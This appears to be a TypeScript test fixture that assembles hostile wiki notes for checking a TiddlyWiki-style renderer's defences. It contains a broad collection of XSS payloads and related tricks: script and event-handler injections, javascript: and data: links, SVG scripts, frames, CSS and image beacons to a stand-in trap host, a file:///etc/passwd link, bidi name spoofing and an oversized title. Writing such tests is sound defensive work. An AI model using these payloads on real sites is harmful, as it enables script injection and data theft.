import type { Tiddler } from '../../src/domain/wiki/tiddler.ts';
import { fetching, moving, spelledOddly } from './hostile-notes.ts';

/** One thing that mallory tries: a note of that title, and others that it needs. */
export interface Attack {
  readonly title: string;
  readonly text: string;
  readonly more?: readonly Tiddler[];
}

const noteOf = (title: string, fields: Readonly<Record<string, string>>): Tiddler => ({
  title,
  fields: new Map(Object.entries(fields)),
});

/** Runs in a page that nothing protects: tells where it ran, asks by every road. Double quotes only. */
const payload = (trap: string, stun: string): string =>
  [
    'window.pwned=true',
    'parent.postMessage("pwned","*")',
    `fetch("${trap}run")`,
    `new Image().src="${trap}picture"`,
    `let c=new RTCPeerConnection({iceServers:[{urls:"${stun}"}]});c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))`,
    'alert(1)',
  ].join(';');

const encoded = (markup: string): string => `data:text/html,${encodeURIComponent(markup)}`;

/** Words that turn around, hide, or join: for titles, names and texts. */
export const BIDI_NAME = 'Alice\u202e\u2066gpj.exe\u200b\u2069';

/** The attacks of issue 4, each as notes; `trap` ends in `/`. */
export const attacks = (trap: string, stun: string): readonly Attack[] => {
  const run = payload(trap, stun).replaceAll("'", '&#39;');
  const script = `<script>${run}</script>`;
  const svg = `<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><script>${run}</script><image href='${trap}svg'/></svg>`;
  return [
    {
      title: 'Script modules',
      text: `${script} <$evil/> <<evil>> {{{ [evil[x]] }}}`,
      more: [
        ...['startup', 'widget', 'macro', 'filteroperator', 'parser', 'saver', 'library'].map((type) =>
          noteOf(`Module ${type}`, { type: 'application/javascript', 'module-type': type, text: run }),
        ),
        noteOf('$:/plugins/evil', {
          ...{ type: 'application/json', 'plugin-type': 'plugin' },
          text: JSON.stringify({ tiddlers: { evil: { 'module-type': 'startup', text: run } } }),
        }),
        noteOf('Raw markup', { tags: '$:/tags/RawMarkup $:/tags/RawMarkupWikified', text: script }),
        noteOf('Startup', {
          tags: '$:/tags/StartupAction $:/tags/StartupAction/Browser',
          text: `<$action-sendmessage $message="tm-open-external-window" $param="${trap}startup"/>`,
        }),
      ],
    },
    {
      title: 'Event handlers',
      text: [
        `<img src="x" onerror='${run}'>`,
        `<svg onload='${run}'></svg>`,
        `<details open ontoggle='${run}'><summary>s</summary>d</details>`,
        `<input autofocus onfocus='${run}'><select autofocus onfocus='${run}'></select>`,
        `<video onloadstart='${run}' src="data:video/mp4,x"></video>`,
        `<p style="animation:x 1s" onanimationstart='${run}' onpointerover='${run}'>p</p>`,
        `<marquee onstart='${run}'>m</marquee><body onload='${run}'>`,
        `<$button onclick='${run}'>press</$button><button onclick='${run}'>press</button>`,
      ].join('\n\n'),
    },
    {
      title: 'javascript and data links',
      text: [
        `<a href='javascript:${run}'>one</a> <a href='java&#9;script:${run}'>two</a> <a href=' JAVASCRIPT:${run}'>three</a>`,
        `<a href="${encoded(`<script>${payload(trap, stun)}</script>`)}">four</a>`,
        `[ext[five|javascript:window.pwned=true]] [ext[six|data:text/html,x]] [ext[seven|vbscript:x]] [ext[eight|file:///etc/passwd]]`,
        `<a href="blob:${trap}x">nine</a> <form action='javascript:${run}'><button>ten</button></form>`,
        `<area href='javascript:${run}'><math href='javascript:${run}'><mtext>m</mtext></math>`,
      ].join('\n\n'),
    },
    {
      title: 'SVG with script',
      text: [
        svg,
        `<img src="data:image/svg+xml,${encodeURIComponent(svg)}">`,
        `<svg><a xlink:href='javascript:${run}'><text>t</text></a><animate onbegin='${run}' attributeName="x" dur="1s"/><foreignObject><iframe srcdoc='${script}'></iframe></foreignObject></svg>`,
        `<svg><set attributeName="href" to='javascript:${run}'/><use href="data:image/svg+xml,${encodeURIComponent(svg)}#x"/></svg>`,
        '{{SVG picture}} [img[SVG picture]]',
      ].join('\n\n'),
      more: [noteOf('SVG picture', { type: 'image/svg+xml', text: svg })],
    },
    {
      title: 'Nested frames',
      text: [
        `<iframe src="${trap}frame"></iframe><iframe srcdoc='${script}'></iframe><iframe src='javascript:${run}'></iframe>`,
        `<object data="${trap}object"></object><embed src="${trap}embed"><applet code="${trap}applet"></applet>`,
        `<frameset><frame src="${trap}frameset"></frameset><portal src="${trap}portal"></portal><fencedframe src="${trap}fenced"></fencedframe>`,
        `<$reveal tag="IFRAME" type="nomatch" stateTitle="x" text="y" src="${trap}reveal">z</$reveal>`,
      ].join('\n\n'),
    },
    {
      title: 'Meta refresh',
      text: [
        `<meta http-equiv="refresh" content="0;url=${trap}refresh"><base href="${trap}base/" target="_top">`,
        `<link rel="preconnect" href="${trap}"><link rel="prefetch" href="${trap}prefetch"><link rel="dns-prefetch" href="//evil.example">`,
        ...spelledOddly(trap),
      ].join('\n\n'),
    },
    { title: 'Self-navigation', text: moving(trap).join('\n\n') },
    {
      title: 'CSS that calls out',
      text: [
        `<style>@import url(${trap}import.css); body { display: none; background: url(${trap}body) } @font-face { font-family: x; src: url(${trap}font) } * { font-family: x }</style>`,
        `<p style="background:url(${trap}a);border-image:url(${trap}b);mask:url(${trap}c);content:url(${trap}d)">p</p>`,
        `<p style="background:image-set('${trap}e' 1x);cursor:url(${trap}f),auto;filter:url(${trap}g#x);shape-outside:url(${trap}h)">p</p>`,
        `<$button style="background:url(${trap}i)">b</$button> <span class="x" style='--x:url(${trap}j);background:var(--x)'>s</span>`,
      ].join('\n\n'),
      more: [
        noteOf('Stylesheet', { tags: '$:/tags/Stylesheet', text: `@import url(${trap}stylesheet.css);` }),
      ],
    },
    {
      title: 'Remote pictures',
      text: [...fetching(trap), '{{Remote note}} {{Remote photo}} [img[Remote photo]]'].join('\n\n'),
      more: [
        noteOf('Remote note', { _canonical_uri: `${trap}note` }),
        noteOf('Remote photo', { type: 'image/png', _canonical_uri: `${trap}photo` }),
        noteOf('Remote page', { type: 'text/html', _canonical_uri: `${trap}page` }),
      ],
    },
    {
      title: 'A title of a megabyte',
      text: '{{{ [prefix[AAAA]] }}}',
      more: [noteOf('A'.repeat(1_000_000), { text: 'too long' })],
    },
    { title: `Bidi ${BIDI_NAME}`, text: `\u202e${BIDI_NAME}\u2067 <a href="${trap}bidi">\u202emoc.knab</a>` },
  ];
};

/** The wiki that mallory publishes: every attack, and a first note that leads to each. */
export const attackNotes = (all: readonly Attack[]): readonly Tiddler[] => [
  noteOf('Welcome', { text: all.map(({ title }) => `* [[${title}]]`).join('\n') }),
  noteOf('$:/DefaultTiddlers', { text: 'Welcome' }),
  ...all.flatMap(({ title, text, more = [] }) => [noteOf(title, { text }), ...more]),
];
